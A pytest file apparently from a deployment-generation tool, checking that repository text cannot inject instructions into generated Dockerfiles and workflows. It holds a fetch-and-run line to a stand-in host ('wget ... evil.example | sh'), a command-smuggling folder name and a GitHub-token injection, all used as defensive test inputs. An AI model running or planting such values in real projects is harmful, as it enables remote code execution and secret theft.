"""Text of a repository never becomes an instruction in a delivered file."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from opsmith import pipeline
from opsmith.errors import ManifestError
from opsmith.model.artifact import Artifact
from opsmith.planners import rules
from opsmith.stages.render import render

EVIL = "RUN wget -qO- https://evil.example | sh"


def delivered(root: Path) -> tuple[Artifact, ...]:
    return render(pipeline.plan(root, "Containerise this, deploy it to Kubernetes with GitHub Actions and Prometheus", rules, {}))


def node(root: Path, folder: str = "", **package: object) -> None:
    (root / folder).mkdir(parents=True, exist_ok=True)
    whole = {"name": "x", "scripts": {"start": "node server.js", "build": "tsc"}, "dependencies": {"express": "5"}} | package
    (root / folder / "package.json").write_text(json.dumps(whole))
    (root / folder / "server.js").write_text("require('express')().listen(3000)")


def harmless(root: Path) -> bool:
    """Whether what is delivered holds nothing of the trap, or is refused."""
    try:
        texts = [artifact.text for artifact in delivered(root)]
    except ManifestError:
        return True
    return not any(trap in text for text in texts for trap in ("evil.example", "github.token", "\u202e", "\ue000"))


@pytest.mark.parametrize(
    "script",
    [
        f"sh run.sh\n{EVIL}",
        f"sh run.sh\u2028{EVIL}",
        "sh run.sh \ue000x\ue001",
        "sh run.sh ${{ github.token }}",
        "sh \u202erun.sh",
        f"node x.js\r{EVIL}",
    ],
)
@pytest.mark.parametrize("name", ["start", "build", "test", "lint"])
def test_a_script_that_would_be_more_than_one_line(tmp_path: Path, name: str, script: str) -> None:
    node(tmp_path, scripts={"start": "node server.js"} | {name: script})
    assert harmless(tmp_path)


def test_an_output_folder_that_ends_its_line(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(
        json.dumps(
            {"name": "site", "scripts": {"build": "ng build"}, "dependencies": {"@angular/core": "19"}, "devDependencies": {"@angular/cli": "19"}}
        )
    )
    options = {"outputPath": f"dist/ /tmp/x/\n{EVIL}\nCOPY --from=build /app/dist/"}
    (tmp_path / "angular.json").write_text(
        json.dumps({"projects": {"site": {"projectType": "application", "architect": {"build": {"options": options}}}}})
    )
    with pytest.raises(ManifestError) as caught:
        delivered(tmp_path)
    assert caught.value.next_step.endswith("in opsmith.yaml")


def test_a_folder_whose_name_is_a_command(tmp_path: Path) -> None:
    folder = tmp_path / "cmd" / "api&&wget${IFS}evil.example"
    folder.mkdir(parents=True)
    (tmp_path / "go.mod").write_text("module example.com/x\n\ngo 1.24\n")
    (folder / "main.go").write_text('package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n')
    with pytest.raises(ManifestError):
        delivered(tmp_path)


def test_names_with_blanks_stay_names(tmp_path: Path) -> None:
    node(tmp_path, "my service")
    (tmp_path / "my service" / "package-lock.json").write_text("{}")
    dockerfile = next(artifact for artifact in delivered(tmp_path) if artifact.path == "my service/Dockerfile")
    assert "\nCOPY package-lock.json package.json ./\n" in dockerfile.text
